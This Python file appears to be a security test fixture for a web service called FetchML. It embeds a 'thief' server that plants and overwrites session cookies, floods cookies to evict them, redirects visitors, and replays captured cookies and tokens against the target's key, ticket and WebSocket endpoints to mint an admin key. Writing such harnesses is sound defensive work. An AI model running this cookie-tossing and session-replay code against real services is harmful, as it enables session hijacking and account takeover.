"""A web server for tasks that uses whatever browsers send it: it plants cookies, and replays those
that it gets as the page of FetchML would send them.

`/` only looks, `/plant`, `/replace` and `/evict` set cookies, `/to?URL` leads on. The file `seen`
in its workspace has one line for each request: host, cookies, and the answers to each replay.
"""

THIEF = r"""
import http.client, http.server, json, os, pathlib, re, urllib.parse
SERVER, KEY = os.environ["SERVER"], os.environ["KEY"]
PORT = SERVER.rpartition(":")[2]
NAME = f"fetchml-session-{PORT}"
AS_PAGE = {"Host": SERVER, "Origin": f"http://{SERVER}", "Sec-Fetch-Site": "same-origin",
           "Sec-Fetch-Mode": "cors", "X-FetchML-Page": "1", "Content-Type": "application/json"}

def ask(method, path, body, headers):
    connection = http.client.HTTPConnection(SERVER, timeout=30)
    connection.request(method, path, body, headers)
    reply = connection.getresponse()
    text = "" if reply.status == 101 else reply.read().decode()
    return reply.status, reply.getheader("Set-Cookie"), text

_, own, _ = ask("POST", "/ui/session", json.dumps({"key": KEY}), AS_PAGE)
OWN = own.partition("=")[2].partition(";")[0]

def replay(cookie):
    values = re.findall(r"fml_\w+_[\w-]+", cookie)
    key = json.dumps({"name": "stolen", "role": "admin"})
    found = []
    for value in ["", *values]:
        for extra in ({}, {"X-FetchML-Session": value}, {"X-API-Key": value},
                      {"Authorization": f"Bearer {value}"}):
            headers = {**AS_PAGE, "Cookie": cookie, **extra}
            socket = {**headers, "Connection": "Upgrade", "Upgrade": "websocket",
                      "Sec-WebSocket-Version": "13",
                      "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==",
                      "Sec-WebSocket-Protocol": f"fetchml.v1, fetchml.session.{value}"}
            found += [ask(*each)[0] for each in (
                ("POST", "/v1/keys", key, headers), ("GET", "/v1/keys", None, headers),
                ("GET", f"/v1/keys?fetchml-ticket={value}", None, headers),
                ("POST", "/ui/session/tickets", '{"path": "/v1/keys"}', headers),
                ("GET", "/ws", None, socket))]
        as_page = {**AS_PAGE, "Cookie": cookie, "X-FetchML-Session": value}
        _, _, session = ask("GET", "/ui/session", None, as_page)
        found.append(json.loads(session).get("user", 401))
    return found

class Thief(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_): pass
    def do_GET(self):
        path, _, query = self.path.partition("?")
        cookie = "; ".join(self.headers.get_all("Cookie", []))
        to = json.dumps(urllib.parse.unquote(query))
        text = f"<script>location = {to}</script>" if path == "/to" else "hello"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        if path == "/plant":
            for where in ("/v1", "/v1/tasks", "/ui/session", "/ui"):
                self.send_header("Set-Cookie", f"{NAME}={OWN}; Path={where}")
        if path == "/replace":
            self.send_header("Set-Cookie", f"{NAME}={OWN}; Path=/; HttpOnly; SameSite=Strict")
        if path == "/evict":
            for n in range(250):
                self.send_header("Set-Cookie", f"evict{n}=1; Path=/")
        self.end_headers()
        self.wfile.write(text.encode())
        if path != "/favicon.ico":
            line = {"host": self.headers["Host"], "path": path, "cookie": cookie,
                    "replayed": replay(cookie)}
            with open("seen", "a") as out:
                out.write(json.dumps(line) + "\n")

web = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Thief)
pathlib.Path("thief-port").write_text(str(web.server_address[1]))
web.serve_forever()
"""
